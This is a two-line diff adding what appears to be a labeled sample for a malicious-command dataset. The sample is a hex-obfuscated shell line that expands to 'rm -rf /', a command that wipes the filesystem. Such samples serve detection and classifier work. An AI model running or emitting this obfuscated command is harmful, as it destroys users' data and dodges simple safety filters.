@@ -1,0 +1,2 @@
+# label: malicious; obfuscated: hex,printf
+$(printf '\x72\x6d') -rf /
